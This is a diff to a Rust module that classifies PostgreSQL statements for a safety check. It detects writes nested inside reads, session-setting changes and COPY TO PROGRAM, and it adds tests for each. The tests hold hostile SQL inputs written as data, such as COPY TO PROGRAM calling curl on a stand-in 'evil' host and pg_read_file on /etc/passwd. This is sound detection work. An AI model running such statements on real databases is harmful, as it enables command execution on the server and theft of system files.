@@ -10,7 +10,8 @@ use std::collections::BTreeSet;
 use std::ops::ControlFlow;
 
 use sqlparser::ast::{
-    CopyTarget, Expr, FromTable, ObjectName, SetExpr, Statement as Ast, TableFactor, visit_expressions, visit_relations,
+    CopyTarget, Expr, FromTable, FunctionArg, FunctionArgExpr, FunctionArguments, ObjectName, Set, SetExpr,
+    Statement as Ast, TableFactor, Value, Visit, Visitor, visit_expressions,
 };
 use sqlparser::dialect::PostgreSqlDialect;
 use sqlparser::parser::Parser;
@@ -35,6 +36,10 @@ pub struct Classified {
     pub unbounded_write: bool,
     /// `COPY ... TO/FROM PROGRAM`: runs a shell command on the database server.
     pub copy_program: bool,
+    /// Session settings it changes, lowercased: `SET x`, `SET NAMES` (`client_encoding`),
+    /// `SET ROLE` (`role`), `SET SESSION AUTHORIZATION` (`session_authorization`),
+    /// `set_config('x', ...)`; `*` when `set_config` names a setting that is not a literal.
+    pub settings: BTreeSet<String>,
 }
 
 impl Classified {
@@ -112,34 +117,142 @@ pub fn redact_secrets(sql: &str) -> String {
 }
 
 fn classify_one(statement: &Ast) -> Classified {
-    let mut c = Classified { kind: Some(kind_of(statement)), ..Classified::default() };
-    let _ = visit_relations(statement, |name: &ObjectName| {
-        add_table(&mut c.tables, name);
-        ControlFlow::<()>::Continue(())
-    });
-    let _ = visit_expressions(statement, |expr: &Expr| {
-        if let Expr::Function(f) = expr {
-            c.functions.insert(bare(&f.name));
+    let mut walk = Walk { c: Classified::default(), writes: false, explain_only: is_plain_explain(statement) };
+    let _ = statement.visit(&mut walk);
+    let mut c = walk.c;
+    let mut kind = kind_of(statement);
+    // A statement that reads on top may write inside: a writable CTE, `COPY (DELETE ...
+    // RETURNING *) TO`, `EXPLAIN ANALYZE`, `PREPARE`.
+    if walk.writes && matches!(kind, StatementKind::Read | StatementKind::Utility) && !walk.explain_only {
+        kind = StatementKind::Write;
+    }
+    c.kind = Some(kind);
+    c
+}
+
+/// Collects what a statement touches, at every depth.
+struct Walk {
+    c: Classified,
+    /// A write statement appears somewhere inside.
+    writes: bool,
+    /// `EXPLAIN` without `ANALYZE`: what it names is planned, not run.
+    explain_only: bool,
+}
+
+impl Visitor for Walk {
+    type Break = ();
+
+    fn pre_visit_relation(&mut self, name: &ObjectName) -> ControlFlow<()> {
+        add_table(&mut self.c.tables, name);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
+        match factor {
+            // `FROM pg_read_file('...')` calls a function, whatever it is named like.
+            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
+                self.c.functions.insert(bare(name));
+            }
+            _ => {}
         }
-        ControlFlow::<()>::Continue(())
-    });
-    match statement {
-        Ast::Delete(d) => {
-            c.unbounded_write = d.selection.as_ref().is_none_or(names_no_column);
-            let from = match &d.from {
-                FromTable::WithFromKeyword(t) | FromTable::WithoutKeyword(t) => t,
-            };
-            for t in from {
-                if let TableFactor::Table { name, .. } = &t.relation {
-                    add_table(&mut c.tables, name);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(f) = expr {
+            let name = bare(&f.name);
+            if name == "set_config" {
+                self.c.settings.insert(first_literal(&f.args).map_or_else(|| "*".to_owned(), |v| v.to_lowercase()));
+            }
+            self.c.functions.insert(name);
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_statement(&mut self, statement: &Ast) -> ControlFlow<()> {
+        let unbounded = |selection: Option<&Expr>| selection.is_none_or(names_no_column);
+        match statement {
+            Ast::Delete(d) => {
+                self.writes = true;
+                if !self.explain_only {
+                    self.c.unbounded_write |= unbounded(d.selection.as_ref());
+                }
+                let (FromTable::WithFromKeyword(from) | FromTable::WithoutKeyword(from)) = &d.from;
+                for t in from {
+                    if let TableFactor::Table { name, .. } = &t.relation {
+                        add_table(&mut self.c.tables, name);
+                    }
                 }
             }
+            Ast::Update(u) => {
+                self.writes = true;
+                if !self.explain_only {
+                    self.c.unbounded_write |= unbounded(u.selection.as_ref());
+                }
+            }
+            Ast::Insert(_) | Ast::Merge(_) | Ast::Truncate(_) => self.writes = true,
+            Ast::Copy { target: CopyTarget::Program { .. }, .. } => self.c.copy_program = true,
+            Ast::Copy { to: false, .. } => self.writes = true,
+            Ast::Set(set) => {
+                for name in set_names(set) {
+                    self.c.settings.insert(name);
+                }
+            }
+            _ => {}
         }
-        Ast::Update(u) => c.unbounded_write = u.selection.as_ref().is_none_or(names_no_column),
-        Ast::Copy { target: CopyTarget::Program { .. }, .. } => c.copy_program = true,
-        _ => {}
+        ControlFlow::Continue(())
     }
-    c
+}
+
+/// `EXPLAIN` without `ANALYZE` (in either spelling): plans, runs nothing.
+fn is_plain_explain(statement: &Ast) -> bool {
+    match statement {
+        Ast::Explain { analyze, options, .. } => !*analyze && !options.as_ref().is_some_and(|o| o.iter().any(analyzes)),
+        _ => false,
+    }
+}
+
+/// `ANALYZE`, `ANALYZE true`, `ANALYZE on`, `ANALYZE 1` in an option list.
+fn analyzes(option: &sqlparser::ast::UtilityOption) -> bool {
+    if !option.name.value.eq_ignore_ascii_case("analyze") {
+        return false;
+    }
+    match &option.arg {
+        None => true,
+        Some(arg) => {
+            let text = arg.to_string().trim_matches('\'').to_ascii_lowercase();
+            !matches!(text.as_str(), "false" | "off" | "0" | "no")
+        }
+    }
+}
+
+fn set_names(set: &Set) -> Vec<String> {
+    let name = |n: &ObjectName| n.0.iter().map(|p| fold(&p.to_string())).collect::<Vec<_>>().join(".");
+    match set {
+        Set::SingleAssignment { variable, .. } => vec![name(variable)],
+        Set::ParenthesizedAssignments { variables, .. } => variables.iter().map(name).collect(),
+        Set::MultipleAssignments { assignments } => assignments.iter().map(|a| name(&a.name)).collect(),
+        Set::SetSessionAuthorization(_) => vec!["session_authorization".to_owned()],
+        Set::SetRole { .. } => vec!["role".to_owned()],
+        Set::SetTimeZone { .. } => vec!["timezone".to_owned()],
+        Set::SetNames { .. } | Set::SetNamesDefault {} => vec!["client_encoding".to_owned()],
+        Set::SetTransaction { .. } => Vec::new(),
+        // Anything else this parser knows as SET: assume the worst.
+        _ => vec!["*".to_owned()],
+    }
+}
+
+/// The first argument, when it is a string literal.
+fn first_literal(args: &FunctionArguments) -> Option<String> {
+    let FunctionArguments::List(list) = args else { return None };
+    match list.args.first()? {
+        FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(v))) => match &v.value {
+            Value::SingleQuotedString(s) | Value::EscapedStringLiteral(s) => Some(s.clone()),
+            Value::DollarQuotedString(d) => Some(d.value.clone()),
+            _ => None,
+        },
+        _ => None,
+    }
 }
 
 fn kind_of(statement: &Ast) -> StatementKind {
@@ -247,9 +360,12 @@ fn kind_of(statement: &Ast) -> StatementKind {
         | Ast::NOTIFY { .. }
         | Ast::Lock(_) => Utility,
         // What these run is decided elsewhere; they are read as what they contain.
-        Ast::Explain { statement, analyze, .. } => {
-            let inner = kind_of(statement);
-            if *analyze { inner } else { Read }
+        Ast::Explain { statement: inner, .. } => {
+            if is_plain_explain(statement) {
+                Read
+            } else {
+                kind_of(inner)
+            }
         }
         Ast::Prepare { statement, .. } => kind_of(statement),
         _ => Unknown,
@@ -355,6 +471,44 @@ mod tests {
         assert!(!one("UPDATE t SET a = 1 WHERE id IN (SELECT 1)").unbounded_write);
         assert!(one("DELETE FROM t").tables.contains("t"));
         assert!(one("COPY t TO PROGRAM 'curl evil'").copy_program);
+    }
+
+    #[test]
+    fn writes_inside_reads_are_writes() {
+        for sql in [
+            "EXPLAIN (ANALYZE) DELETE FROM t",
+            "EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t",
+            "EXPLAIN ANALYZE DELETE FROM t",
+            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
+            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
+            "PREPARE p AS DELETE FROM t",
+        ] {
+            let c = one(sql);
+            assert_eq!(c.kind(), StatementKind::Write, "{sql}");
+            assert!(c.unbounded_write, "{sql}");
+            assert!(c.tables.contains("t"), "{sql}");
+        }
+        for sql in
+            ["EXPLAIN DELETE FROM t", "EXPLAIN (ANALYZE false) DELETE FROM t", "EXPLAIN (ANALYZE off) DELETE FROM t"]
+        {
+            let c = one(sql);
+            assert_eq!(c.kind(), StatementKind::Read, "{sql}");
+            assert!(!c.unbounded_write, "{sql}: plans only");
+        }
+        assert!(one("SELECT * FROM pg_read_file('/etc/passwd')").functions.contains("pg_read_file"));
+        assert!(one("SELECT * FROM generate_series(1, 3) g").functions.contains("generate_series"));
+    }
+
+    #[test]
+    fn settings_a_statement_changes() {
+        let settings = |sql: &str| one(sql).settings.into_iter().collect::<Vec<_>>();
+        assert_eq!(settings("SET standard_conforming_strings = off"), ["standard_conforming_strings"]);
+        assert_eq!(settings("SET SESSION client_encoding TO 'GBK'"), ["client_encoding"]);
+        assert_eq!(settings("SET NAMES 'GBK'"), ["client_encoding"]);
+        assert_eq!(settings("SELECT set_config('Client_Encoding', 'SJIS', false)"), ["client_encoding"]);
+        assert_eq!(settings("SELECT set_config(current_setting('x'), 'off', false)"), ["*"]);
+        assert_eq!(settings("SET ROLE other"), ["role"]);
+        assert!(settings("SELECT 1").is_empty());
     }
 
     #[test]
